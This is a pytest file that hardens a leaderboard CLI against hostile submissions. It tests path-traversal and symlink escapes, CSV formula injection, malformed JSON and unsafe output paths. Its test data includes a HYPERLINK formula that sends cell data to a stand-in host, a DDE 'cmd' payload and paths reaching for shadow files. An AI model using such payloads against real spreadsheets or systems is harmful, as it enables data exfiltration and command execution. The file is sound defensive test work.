"""``clis leaderboard build`` and ``add`` under attack: hostile result files, broken JSON and bad
output paths (issue 12, items 7, 9, 11, 14, 15, 17 and 19).

A result file is a submission from someone else: ``add`` must not copy files from outside its
folder into the results tree, and a spreadsheet opening the CSV exports must not run formulas
from its names or labels. Every refusal is one line, exit 2 and no traceback, before anything is
written; no input file is changed.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from PIL import Image

from pipeline_helpers import run_cli

from .corpus import write

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DEEP = "[" * 100_000 + "]" * 100_000
BIG_INT = "9" * 5000


def result_document(rows: list[dict] | None = None, **extra) -> dict:
    return {
        "schema": "clis.bench/1", "study": "compare", "clis_version": "0.1.0",
        "metrics": [{"key": "clis_mean", "label": "CLIS (mean)"}],
        "rows": rows if rows is not None else [{"name": "gligen", "values": {"clis_mean": {"value": 61.2}}}],
        **extra,
    }  # fmt: skip


def scores_line(layout_id="L0", image="a.png", label="cup", phrase="red cup", object_id="cup-1") -> str:
    instance = {"object_id": object_id, "label": label, "phrase": phrase, "bbox": [0.25, 0.25, 0.5, 0.5],
                "region": 30.0, "grounding": 70.0, "score": 55.0}
    return json.dumps({"layout_id": layout_id, "image": image, "clis": 60.0, "clis_i": 60.0, "clis_l": 60.0,
                       "global": 30.0, "instances": [instance], "error": None})


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run folder with a result file whose row names a scores file and a layouts file in it."""
    folder = tmp_path / "run"
    (folder / "gligen").mkdir(parents=True)
    Image.new("RGB", (32, 32), (10, 120, 40)).save(folder / "gligen" / "a.png")
    (folder / "gligen" / "scores.jsonl").write_text(scores_line() + "\n")
    (folder / "layouts.json").write_text(json.dumps(
        [{"id": "L0", "caption": "a red cup", "objects": [{"id": "cup-1", "label": "cup", "bbox": [0.25, 0.25, 0.5, 0.5]}]}]
    ))  # fmt: skip
    row = {"name": "gligen", "values": {"clis_mean": {"value": 61.2}}, "scores_file": "gligen/scores.jsonl",
           "layouts_file": "layouts.json", "images_root": "gligen"}
    (folder / "result.json").write_text(json.dumps(result_document([row]), indent=2))
    return folder / "result.json"


def rewrite_row(result: Path, **fields) -> None:
    document = json.loads(result.read_text())
    document["rows"][0].update(fields)
    result.write_text(json.dumps(document, indent=2))


def assert_one_line_error(code: int, output: str, *parts: str) -> None:
    lines = output.strip().splitlines()
    assert code == 2, output
    assert len(lines) == 1, output
    assert lines[0].startswith("error: ") and "Traceback" not in output and "unexpected" not in output, output
    for part in parts:
        assert part in lines[0], (part, output)


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (hidden ones too) with its bytes."""
    if not folder.exists():
        return {}
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- item 7: `add` copies only the submission's own scores and layouts files ----------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret" / "shadow.jsonl"
    path.parent.mkdir()
    path.write_text('{"image": "root:$6$secret-hash:19000:0:99999:7:::"}\n')
    return path


@pytest.mark.parametrize(
    ("key", "written"),
    [
        ("scores_file", "ABSOLUTE"),  # "scores_file": "/etc/shadow"
        ("scores_file", "../secret/shadow.jsonl"),  # a relative path that climbs out
        ("scores_file", "gligen/../../secret/shadow.jsonl"),
        ("layouts_file", "ABSOLUTE"),
        ("scores_file", "LINK"),  # a link inside the folder to a file outside it
    ],
)
def test_add_refuses_files_outside_the_result_folder(run, secret, tmp_path, capsys, key, written):
    if written == "ABSOLUTE":
        written = str(secret)
    elif written == "LINK":
        (run.parent / "gligen" / "linked.jsonl").symlink_to(secret)
        written = "gligen/linked.jsonl"
    rewrite_row(run, **{key: written})
    before = tree(run.parent)
    kept = tmp_path / "kept"
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept)], capsys)
    assert_one_line_error(code, output, str(run), "rows[0] ('gligen')", key, "outside")
    # Nothing copied, no staging folder left behind, the submission untouched.
    assert tree(kept) == {} and (not kept.exists() or list(kept.iterdir()) == [])
    assert tree(run.parent) == before


@pytest.mark.parametrize(
    ("key", "name", "content"),
    [
        ("scores_file", "gligen/notes.txt", scores_line().encode() + b"\n"),  # not a scores file's kind
        ("scores_file", "gligen/image.png", None),  # a picture named as the scores file
        ("scores_file", "gligen/fake.jsonl", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe"),  # binary
        ("scores_file", "gligen/passwd.jsonl", b"root:x:0:0:root:/root:/bin/bash\n"),  # text, not JSON lines
        ("layouts_file", "gligen/layouts.jsonl", b"[]"),
        ("layouts_file", "private.json", b"PRIVATE KEY\n"),
    ],
)
def test_add_refuses_files_that_are_not_scores_or_layouts(run, tmp_path, capsys, key, name, content):
    path = run.parent / name
    if content is None:
        Image.new("RGB", (8, 8)).save(path)
    else:
        path.write_bytes(content)
    rewrite_row(run, **{key: name})
    kept = tmp_path / "kept"
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept)], capsys)
    assert_one_line_error(code, output, str(run), "rows[0] ('gligen')", key)
    assert not kept.exists() or list(kept.iterdir()) == []


def test_add_keeps_files_under_the_folder_even_through_links_or_dot_dot(run, tmp_path, capsys):
    (run.parent / "gligen" / "linked.jsonl").symlink_to(run.parent / "gligen" / "scores.jsonl")
    rewrite_row(run, scores_file="gligen/linked.jsonl", layouts_file="gligen/../layouts.json")
    kept = tmp_path / "kept"
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept), "--name", "v1"], capsys)
    assert code == 0, output
    row = json.loads((kept / "compare-v1" / "result.json").read_text())["rows"][0]
    assert (kept / "compare-v1" / row["scores_file"]).read_text() == (run.parent / "gligen" / "scores.jsonl").read_text()
    assert (kept / "compare-v1" / row["layouts_file"]).read_text() == (run.parent / "layouts.json").read_text()
    assert ".." not in Path(row["layouts_file"]).parts
    assert not any(p.name.startswith(".") for p in kept.iterdir())  # the staging folder is gone


def test_a_refused_replace_leaves_the_kept_submission_as_it_was(run, secret, tmp_path, capsys):
    kept = tmp_path / "kept"
    assert run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept), "--name", "v1"], capsys)[0] == 0
    before = tree(kept)
    rewrite_row(run, scores_file=str(secret))
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept), "--name", "v1", "--replace"], capsys)
    assert_one_line_error(code, output, "scores_file", "outside")
    assert tree(kept) == before


# --- item 9: formula cells in the CSV exports -----------------------------------------------


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_csv_exports_neutralise_formula_cells(run, tmp_path, capsys):
    (run.parent / "gligen" / "scores.jsonl").write_text(
        scores_line(layout_id="@SUM(1+1)", label=FORMULA, phrase="+cmd|' /C calc'!A0", object_id="-2+3") + "\n"
        + scores_line(layout_id="-3", label="\tx", phrase="\rx") + "\n"
    )
    document = json.loads(run.read_text())
    document["metrics"].append({"key": "=1+1"})
    document["rows"][0]["name"] = FORMULA
    document["rows"][0]["values"]["=1+1"] = {"value": -2.5}
    run.write_text(json.dumps(document))
    site, config = tmp_path / "site", tmp_path / "config.json"
    config.write_text('{"metrics": []}')  # every metric, the "=1+1" one too
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(site), "-c", str(config), "-q"], capsys)
    assert code == 0, output

    board = csv_cells(site / "leaderboard.csv")
    instances = csv_cells(next((site / "rows").glob("*/instances.csv")))
    for cell in [c for row in board + instances for c in row]:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start so: "-2.5", "-3"
    header, row = board[0], board[1]
    assert row[header.index("name")] == "'" + FORMULA
    assert "'=1+1" in header and row[header.index("'=1+1")] == "-2.5"  # the number stays a number
    by_column = [dict(zip(instances[0], r)) for r in instances[1:]]
    assert by_column[0]["layout_id"] == "'@SUM(1+1)" and by_column[0]["label"] == "'" + FORMULA
    assert by_column[0]["phrase"] == "'+cmd|' /C calc'!A0" and by_column[0]["object_id"] == "'-2+3"
    assert by_column[1]["layout_id"] == "-3"  # text that reads as a number is left alone
    assert by_column[1]["label"] == "'\tx" and by_column[1]["phrase"] == "'\rx"
    assert by_column[0]["score"] == "55.0"


# --- item 14: user strings are printed as they are, never as rich markup -----------------------


@pytest.mark.parametrize("odd", ["no[red]such", "[/x]", "a[bold]b[/bold]"])
def test_bracketed_paths_and_names_print_literally(run, tmp_path, capsys, odd):
    site = tmp_path / odd / "site"
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(site)], capsys)
    assert code == 0 and f"wrote {site / 'index.html'}" in output, output
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(site), "--config", str(tmp_path / odd)], capsys)
    assert_one_line_error(code, output, str(tmp_path / odd))
    kept = tmp_path / "kept"
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept), "--name", odd], capsys)
    assert code == 0 and output.startswith(f"kept {run} as "), output
    code, output = run_cli(["leaderboard", "add", str(tmp_path / f"{odd}.json"), "--results-dir", str(kept)], capsys)
    assert_one_line_error(code, output, str(tmp_path / f"{odd}.json"))


def test_row_names_with_brackets_print_literally_in_notes(run, tmp_path, capsys):
    rewrite_row(run, name="[/x] no[red]such", scores_file="missing.jsonl")
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(tmp_path / "site")], capsys)
    assert code == 0, output
    assert "note: [/x] no[red]such: scores file missing.jsonl not found" in output


# --- items 11, 15, 19: every JSON file read strictly; non-finite numbers refused --------------

BAD_JSON = {
    "deep": DEEP,
    "big-int": '{"schema": "clis.bench/1", "study": "compare", "metrics": [], "rows": [], "n": ' + BIG_INT + "}",
    "nan": '{"schema": "clis.bench/1", "study": "compare", "metrics": [{"key": "m"}], '
           '"rows": [{"name": "a", "values": {"m": {"value": NaN}}}]}',
    "infinity": '{"schema": "clis.bench/1", "study": "compare", "metrics": [{"key": "m"}], '
                '"rows": [{"name": "a", "values": {"m": {"value": 1.0, "ci_high": Infinity}}}]}',
    "1e309": '{"schema": "clis.bench/1", "study": "compare", "metrics": [{"key": "m"}], '
             '"rows": [{"name": "a", "values": {"m": {"value": 1e309}}}]}',
    "nan-setting": '{"schema": "clis.bench/1", "study": "compare", "metrics": [], "rows": [], '
                   '"settings": {"min_instance": NaN}}',
    "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe\x00",
}  # fmt: skip


def write_bad(path: Path, kind: str) -> Path:
    return write(path, BAD_JSON[kind])


@pytest.mark.parametrize("kind", list(BAD_JSON))
def test_bad_result_file_is_one_line_error_for_build_and_add(tmp_path, capsys, kind):
    bad = write_bad(tmp_path / "result.json", kind)
    before = bad.read_bytes()
    code, output = run_cli(["leaderboard", "build", str(bad), "--out", str(tmp_path / "site")], capsys)
    assert_one_line_error(code, output, str(bad))
    assert not (tmp_path / "site").exists()
    kept = tmp_path / "kept"
    code, output = run_cli(["leaderboard", "add", str(bad), "--results-dir", str(kept)], capsys)
    assert_one_line_error(code, output, str(bad))
    assert not kept.exists() or list(kept.iterdir()) == []
    assert bad.read_bytes() == before


@pytest.mark.parametrize("kind", ["deep", "big-int", "nan", "binary"])
def test_bad_config_file_is_one_line_error(run, tmp_path, capsys, kind):
    config = write_bad(tmp_path / "config.json", kind)
    if kind in ("big-int", "nan"):
        config.write_text('{"title": "x", "decimals": ' + ("NaN" if kind == "nan" else BIG_INT) + "}")
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(tmp_path / "site"), "-c", str(config)], capsys)
    assert_one_line_error(code, output, str(config))


@pytest.mark.parametrize("kind", ["deep", "big-int", "binary"])
def test_unreadable_json_in_a_scanned_folder_is_skipped(run, tmp_path, capsys, kind):
    write_bad(run.parent / "other.json", kind)
    site = tmp_path / "site"
    code, output = run_cli(["leaderboard", "build", str(run.parent), "--out", str(site), "-q"], capsys)
    assert code == 0, output
    assert (site / "rows" / "compare-gligen.html").is_file()


def test_bad_lines_and_manifests_beside_a_scores_file_become_notes(run, tmp_path, capsys):
    scores = run.parent / "gligen" / "scores.jsonl"
    scores.write_text(DEEP + "\n" + scores_line().replace("60.0", "NaN", 1) + "\n" + '{"image": "a.png", "n": '
                      + BIG_INT + "}\n" + scores_line() + "\n")
    (run.parent / "gligen" / "scores.jsonl.manifest.json").write_text(DEEP)
    (run.parent / "gligen" / "manifest.json").write_text('{"generator": ' + BIG_INT + "}")
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(tmp_path / "site")], capsys)
    assert code == 0, output
    assert "scores.jsonl: line 1: nested too deeply" in output
    assert "scores.jsonl: line 2: non-finite number NaN" in output
    assert "scores.jsonl: line 3: an integer has more than" in output
    assert "Traceback" not in output and "unexpected" not in output


def test_integers_too_large_for_a_float_are_no_score(run, tmp_path, capsys):
    # JSON allows a 400-digit integer; as a float it overflows, which must not end the build.
    big = "9" * 400
    record = json.loads(scores_line())
    record["instances"][0]["bbox"] = [0, 0, 1, 1]
    text = json.dumps(record).replace('"clis": 60.0', f'"clis": {big}').replace("[0, 0, 1, 1]", f"[0, 0, {big}, 1]")
    (run.parent / "gligen" / "scores.jsonl").write_text(text + "\n" + scores_line() + "\n")
    run.write_text(json.dumps(json.loads(run.read_text()) | {"settings": {"min_instance": 1}}).replace(
        '"min_instance": 1', f'"min_instance": {big}'))
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(tmp_path / "site"), "-q"], capsys)
    assert code == 0, output
    assert (tmp_path / "site" / "rows" / "compare-gligen" / "best-1.png").is_file()


def test_kept_result_is_strict_json(run, tmp_path, capsys):
    kept = tmp_path / "kept"
    assert run_cli(["leaderboard", "add", str(run), "--results-dir", str(kept), "--name", "v1"], capsys)[0] == 0
    text = (kept / "compare-v1" / "result.json").read_text()
    from clis.jsonio import loads

    assert loads(text)["rows"][0]["name"] == "gligen"


# --- item 17: output paths checked before any work; nothing the user gave is lost ------------


@pytest.mark.parametrize("where", ["file", "under-a-file", "/dev/full", "the-results-folder"])
def test_bad_out_is_refused_before_any_result_is_read(run, tmp_path, capsys, where):
    blocker = tmp_path / "blocker.txt"
    blocker.write_text("mine\n")
    out = {"file": blocker, "under-a-file": blocker / "site", "/dev/full": Path("/dev/full"),
           "the-results-folder": run.parent}[where]  # fmt: skip
    before = tree(run.parent)
    # The first result is missing: a check made before any work names --out, not the result.
    results = [str(run.parent)] if where == "the-results-folder" else [str(tmp_path / "missing.json"), str(run)]
    code, output = run_cli(["leaderboard", "build", *results, "--out", str(out)], capsys)
    assert_one_line_error(code, output, "--out", str(out))
    assert blocker.read_text() == "mine\n" and tree(run.parent) == before


@pytest.mark.parametrize("where", ["file", "under-a-file", "the-result-file"])
def test_bad_results_dir_is_refused_before_anything_is_kept(run, tmp_path, capsys, where):
    blocker = tmp_path / "blocker.txt"
    blocker.write_text("mine\n")
    results_dir = {"file": blocker, "under-a-file": blocker / "kept", "the-result-file": run}[where]
    before = tree(run.parent)
    code, output = run_cli(["leaderboard", "add", str(run), "--results-dir", str(results_dir)], capsys)
    assert_one_line_error(code, output, "--results-dir")
    assert blocker.read_text() == "mine\n" and tree(run.parent) == before


def test_results_inside_the_sites_generated_folders_are_never_deleted(run, tmp_path, capsys):
    site = tmp_path / "site"
    assert run_cli(["leaderboard", "build", str(run), "--out", str(site), "-q"], capsys)[0] == 0
    # Rebuilding from the site's own downloadable copies would delete them before reading them.
    before = tree(site / "data")
    code, output = run_cli(["leaderboard", "build", str(site / "data"), "--out", str(site), "-q"], capsys)
    assert_one_line_error(code, output, str(site / "data"))
    assert tree(site / "data") == before


def test_a_folder_that_is_not_a_built_site_is_not_overwritten(run, tmp_path, capsys):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.html").write_text("<h1>my page</h1>")
    code, output = run_cli(["leaderboard", "build", str(run), "--out", str(docs), "-q"], capsys)
    assert_one_line_error(code, output, str(docs), "index.html")
    assert (docs / "index.html").read_text() == "<h1>my page</h1>" and sorted(os.listdir(docs)) == ["index.html"]


def test_a_site_built_inside_the_results_folder_is_not_read_as_results(run, capsys):
    site = run.parent / "site"
    for _ in range(2):
        assert run_cli(["leaderboard", "build", str(run.parent), "--out", str(site), "-q"], capsys)[0] == 0
    # The second build must not pick up site/data/*.json, the copies of the first, as submissions.
    assert sorted(p.name for p in (site / "rows").glob("*.html")) == ["compare-gligen.html"]


def test_a_published_page_shows_only_images_under_the_submission(tmp_path):
    from types import SimpleNamespace

    from leaderboard.details import resolve_image

    submission = tmp_path / "run"
    (submission / "images").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(submission / "images" / "ok.png")
    private = tmp_path / "private"
    private.mkdir()
    Image.new("RGB", (8, 8), "purple").save(private / "secret.png")
    (submission / "images" / "link.png").symlink_to(private / "secret.png")
    result = SimpleNamespace(resolve=lambda root: None, source=submission / "result.json")
    row = SimpleNamespace(images_root=None)
    scores = submission / "scores.jsonl"
    assert resolve_image("images/ok.png", result, row, scores) == submission / "images" / "ok.png"
    assert resolve_image(str(submission / "images" / "ok.png"), result, row, scores) is not None
    for hostile in (str(private / "secret.png"), "../private/secret.png", "images/link.png"):
        assert resolve_image(hostile, result, row, scores) is None, hostile
